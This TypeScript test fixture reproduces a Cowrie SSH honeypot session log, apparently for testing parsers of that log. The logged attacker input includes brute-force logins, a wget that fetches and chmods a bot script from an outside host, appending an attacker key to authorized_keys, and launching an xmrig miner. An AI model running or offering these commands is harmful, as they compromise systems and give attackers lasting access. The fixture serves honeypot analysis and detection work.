// One attacker session as Cowrie 2.x writes it to var/log/cowrie/cowrie.json (one JSON object per line).
const S = 'c0ffee12ab34';
const base = { session: S, src_ip: '203.0.113.45', sensor: 'hp-eu-1' };

export const COWRIE_RECORDS: Array<Record<string, unknown>> = [
  {
    eventid: 'cowrie.session.connect',
    ...base,
    src_port: 51234,
    dst_ip: '10.0.0.5',
    dst_port: 2222,
    protocol: 'ssh',
    message: 'New connection: 203.0.113.45:51234 (10.0.0.5:2222) [session: c0ffee12ab34]',
    timestamp: '2024-05-01T12:00:00.101234Z',
  },
  { eventid: 'cowrie.client.version', ...base, version: 'SSH-2.0-libssh_0.9.6', message: 'Remote SSH version: SSH-2.0-libssh_0.9.6', timestamp: '2024-05-01T12:00:00.512345Z' },
  { eventid: 'cowrie.login.failed', ...base, username: 'root', password: '123456', message: 'login attempt [root/123456] failed', timestamp: '2024-05-01T12:00:01.000001Z' },
  { eventid: 'cowrie.login.failed', ...base, username: 'admin', password: 'admin', message: 'login attempt [admin/admin] failed', timestamp: '2024-05-01T12:00:02.000002Z' },
  { eventid: 'cowrie.login.success', ...base, username: 'root', password: 'toor', message: 'login attempt [root/toor] succeeded', timestamp: '2024-05-01T12:00:03.000003Z' },
  {
    eventid: 'cowrie.command.input',
    ...base,
    input: 'uname -a; cat /proc/cpuinfo | grep name',
    message: 'CMD: uname -a; cat /proc/cpuinfo | grep name',
    timestamp: '2024-05-01T12:00:04.000004Z',
  },
  {
    eventid: 'cowrie.command.input',
    ...base,
    input: 'cd /tmp && wget http://198.51.100.7/bot.sh && chmod +x bot.sh',
    message: 'CMD: cd /tmp && wget http://198.51.100.7/bot.sh && chmod +x bot.sh',
    timestamp: '2024-05-01T12:00:05.000005Z',
  },
  {
    eventid: 'cowrie.session.file_download',
    ...base,
    url: 'http://198.51.100.7/bot.sh',
    outfile: 'var/lib/cowrie/downloads/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    shasum: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    destfile: '/tmp/bot.sh',
    message:
      'Downloaded URL (http://198.51.100.7/bot.sh) with SHA-256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 to var/lib/cowrie/downloads/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    timestamp: '2024-05-01T12:00:06.000006Z',
  },
  {
    eventid: 'cowrie.command.input',
    ...base,
    input: 'echo "ssh-rsa AAAAB3Nza attacker" >> ~/.ssh/authorized_keys',
    message: 'CMD: echo "ssh-rsa AAAAB3Nza attacker" >> ~/.ssh/authorized_keys',
    timestamp: '2024-05-01T12:00:07.000007Z',
  },
  {
    eventid: 'cowrie.command.failed',
    ...base,
    input: './xmrig --url stratum+tcp://pool.example:3333',
    message: 'Command not found: ./xmrig --url stratum+tcp://pool.example:3333',
    timestamp: '2024-05-01T12:00:08.000008Z',
  },
  {
    eventid: 'cowrie.direct-tcpip.request',
    ...base,
    dst_ip: '192.0.2.25',
    dst_port: 25,
    src_port: 40000,
    message: 'direct-tcp connection request to 192.0.2.25:25 from 127.0.0.1:40000',
    timestamp: '2024-05-01T12:00:09.000009Z',
  },
  { eventid: 'cowrie.session.closed', ...base, duration: 10.52, message: 'Connection lost after 10 seconds', timestamp: '2024-05-01T12:00:10.621234Z' },
];

export const COWRIE_LOG = COWRIE_RECORDS.map((r) => JSON.stringify(r)).join('\n') + '\n';
